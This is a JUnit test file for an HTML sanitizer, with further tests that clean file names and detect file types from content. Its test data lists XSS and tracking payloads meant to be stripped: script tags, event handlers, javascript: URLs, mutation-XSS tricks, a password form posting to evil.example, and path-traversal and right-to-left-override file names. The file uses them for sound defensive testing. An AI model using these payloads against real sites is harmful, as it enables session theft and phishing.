package org.packhaus.casework;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** A stranger's HTML runs nothing, fetches nothing, and covers nothing of the portal. */
class SafeHtmlTest {
    private static final List<String> HARMLESS = List.of("href", "title", "rel", "target", "colspan", "rowspan");

    static Stream<String> hostile() {
        return Stream.of(
                "<p>Hi<script>alert(1)</script></p>",
                "<p>Hi<ScRiPt src=//evil.example/x.js></sCrIpT></p>",
                "<p>Hi<img src=x onerror=alert(1)></p>",
                "<p>Hi<img src='https://tracker.example/open.gif?id=7' width=1 height=1></p>",
                "<p style='background:url(https://tracker.example/a.png)'>Hi</p>",
                "<style>@import 'https://tracker.example/x.css'; body{display:none}</style><p>Hi</p>",
                "<link rel=stylesheet href=https://tracker.example/x.css><p>Hi</p>",
                "<base href='https://evil.example/'><p>Hi <a href='/login'>here</a></p>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'><p>Hi</p>",
                "<p>Hi</p><iframe src='javascript:alert(1)'></iframe>",
                "<p>Hi</p><iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<p>Hi</p><object data='data:text/html;base64,PHNjcmlwdD4='></object><embed src=x>",
                "<form action=https://evil.example><p>Hi</p><input name=password><button"
                        + " formaction=javascript:alert(1)>x</button></form>",
                "<p>Hi</p><svg><script>alert(1)</script><animate onbegin=alert(1)></svg>",
                "<p>Hi</p><math><mtext><table><mglyph><style><img src=x"
                        + " onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<p>Hi <a href='javascript:alert(1)'>x</a><a href='JaVa\tScRiPt:alert(1)'>x</a><a"
                        + " href='&#106;avascript:alert(1)'>x</a></p>",
                "<p>Hi <a href='data:text/html,<script>alert(1)</script>'>x</a><a href='vbscript:x'>x</a><a"
                        + " href='file:///etc/passwd'>x</a></p>",
                "<p>Hi</p><div style='position:fixed;inset:0' id=main class=card onclick=alert(1)>cover</div>",
                "<p>Hi</p><video src=x onloadstart=alert(1)><source src=x><track src=x></video><audio autoplay src=x>",
                "<p>Hi</p><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<p>Hi</p><template><script>alert(1)</script></template><vaadin-button"
                        + " onclick=alert(1)>x</vaadin-button>",
                "<p>Hi</p><!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
                "<p>Hi</p><body onload=alert(1)><table background='https://tracker.example/a.png'><tr><td"
                        + " background=x>a</td></tr></table>",
                "<p>Hi</p><details open ontoggle=alert(1)><summary>x</summary></details><marquee"
                        + " onstart=alert(1)>x</marquee>",
                "<p>Hi</p><a href='https://ok.example' ping='https://tracker.example' onmouseover=alert(1)"
                        + " target=_top>x</a>",
                "<p>Hi</p><xss style='x:expression(alert(1))'>x</xss><p/onclick=alert(1)>x",
                "<p>Hi" + "<div>".repeat(20_000) + "deep");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void nothingIsLeftThatRunsOrFetches(String mail) {
        String safe = SafeHtml.of(mail);
        assertThat(safe).contains("Hi");
        for (Element one : Jsoup.parse(safe).body().getAllElements()) {
            assertThat(one.tagName())
                    .isNotIn(
                            "script",
                            "style",
                            "img",
                            "iframe",
                            "object",
                            "embed",
                            "form",
                            "input",
                            "button",
                            "svg",
                            "math",
                            "link",
                            "meta",
                            "base",
                            "video",
                            "audio",
                            "source",
                            "template",
                            "details",
                            "noscript");
            assertThat(one.tagName()).doesNotContain("-");
            for (Attribute attribute : one.attributes()) {
                assertThat(attribute.getKey()).isIn(HARMLESS);
            }
            if (one.hasAttr("href")) {
                assertThat(one.attr("href").toLowerCase(Locale.ROOT)).matches("(https?|mailto):.*");
                assertThat(one.attr("rel")).contains("noopener").contains("noreferrer");
                assertThat(one.attr("title")).isEqualTo(one.attr("href"));
            }
        }
    }

    @Test
    void whatAPersonWroteIsStillThere() {
        assertThat(SafeHtml.of("<p>Wo ist <b>mein</b> Paket?</p><ul><li>eins</li></ul><a"
                        + " href='https://otto.example/x'>Link</a>"))
                .contains("<b>mein</b>")
                .contains("<li>eins</li>")
                .contains("href=\"https://otto.example/x\"");
    }

    @Test
    void aMailOfPicturesOnlySaysNothing() {
        assertThat(SafeHtml.of("<img src=x><img src=y>")).isEmpty();
    }

    @Test
    void aFileNameShowsWhatItEndsWith() {
        assertThat(Clean.fileName("invoice\u202efdp.exe")).isEqualTo("invoicefdp.exe");
        assertThat(Clean.fileName("../../etc/passwd")).doesNotContain("/");
        assertThat(Clean.fileName("..")).isEqualTo("file");
    }

    @Test
    void whatAFileIsSaysItsContentAndNotItsSender() {
        assertThat(FileType.of("<html><script>".getBytes(StandardCharsets.UTF_8)))
                .isEqualTo(FileType.UNKNOWN);
        assertThat(FileType.of("%PDF-1.7".getBytes(StandardCharsets.UTF_8))).isEqualTo("application/pdf");
        assertThat(FileType.of(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10}))
                .isEqualTo("image/png");
    }
}
